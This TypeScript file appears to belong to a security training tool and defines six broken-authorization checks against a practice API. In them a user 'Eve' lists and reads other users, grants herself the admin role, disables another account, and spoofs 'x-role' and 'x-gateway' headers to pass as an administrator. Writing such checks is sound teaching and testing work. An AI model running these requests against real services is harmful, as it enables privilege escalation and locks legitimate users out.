import type { Attack } from '../engine/lesson.js';
import type { Person, Target } from '../engine/target.js';
import { signInAgain } from './administrators.js';

interface Profile {
  id: string;
  email: string;
  role: string;
}

interface Page {
  items?: Profile[];
}

const people = (target: Target) => Promise.all([target.person('ada'), target.person('eve')]);

/** Lists users as an administrator may; says whether Eve found Ada. */
async function findsAda(eve: Person, ada: Person, headers?: Record<string, string>) {
  const query = `email=${encodeURIComponent(ada.email)}`;
  const { body } = await eve.client.get<Page>(`/v1/users?${query}`, headers);
  return body.items?.some(({ id }) => id === ada.id) ?? false;
}

/** Whether it is the headers that make the difference. */
const findsAdaBy = async (headers: Record<string, string>, eve: Person, ada: Person) =>
  !(await findsAda(eve, ada)) && (await findsAda(eve, ada, headers));

export const attacks: Attack[] = [
  {
    id: 'bfla-list-users',
    title: 'List users without being an administrator',
    run: async (target) => {
      const [ada, eve] = await people(target);
      return (await findsAda(eve, ada)) ? 'Ada in the list of users' : null;
    },
  },
  {
    id: 'bfla-read-user',
    title: 'Read a user without being an administrator',
    run: async (target) => {
      const [ada, eve] = await people(target);
      const { body } = await eve.client.get<Partial<Profile>>(`/v1/users/${ada.id}`);
      return body.email === ada.email ? 'Ada’s address' : null;
    },
  },
  {
    id: 'bfla-promote',
    title: 'Make oneself an administrator',
    run: async (target) => {
      const [ada, eve] = await people(target);
      await eve.client.put(`/v1/users/${eve.id}/role`, { role: 'admin' });
      const again = await signInAgain(target, eve);
      const { body } = await again.client.get<Partial<Profile>>('/v1/users/me');
      const isAdmin = body.role === 'admin' && (await findsAda(again, ada));
      return isAdmin ? 'the role of an administrator' : null;
    },
  },
  {
    id: 'bfla-disable',
    title: 'Lock somebody out',
    run: async (target) => {
      const [ada, eve] = await people(target);
      await eve.client.post(`/v1/users/${ada.id}/disable`);
      const { email, password } = ada;
      const { body } = await target
        .stranger('ada')
        .post<{ code?: string }>('/v1/auth/login', { email, password });
      return body.code === 'invalid_credentials' ? 'Ada, who cannot sign in any more' : null;
    },
  },
  {
    id: 'bfla-role-header',
    title: 'Say in a header that one is an administrator',
    run: async (target) => {
      const [ada, eve] = await people(target);
      const found = await findsAdaBy({ 'x-role': 'admin' }, eve, ada);
      return found ? 'Ada in the list of users, for a header' : null;
    },
  },
  {
    id: 'bfla-gateway-header',
    title: 'Say so in the name of the gateway',
    run: async (target) => {
      const [ada, eve] = await people(target);
      const headers = { 'x-role': 'admin', 'x-gateway': 'internal' };
      const found = await findsAdaBy(headers, eve, ada);
      return found ? 'Ada in the list of users, for two headers' : null;
    },
  },
];
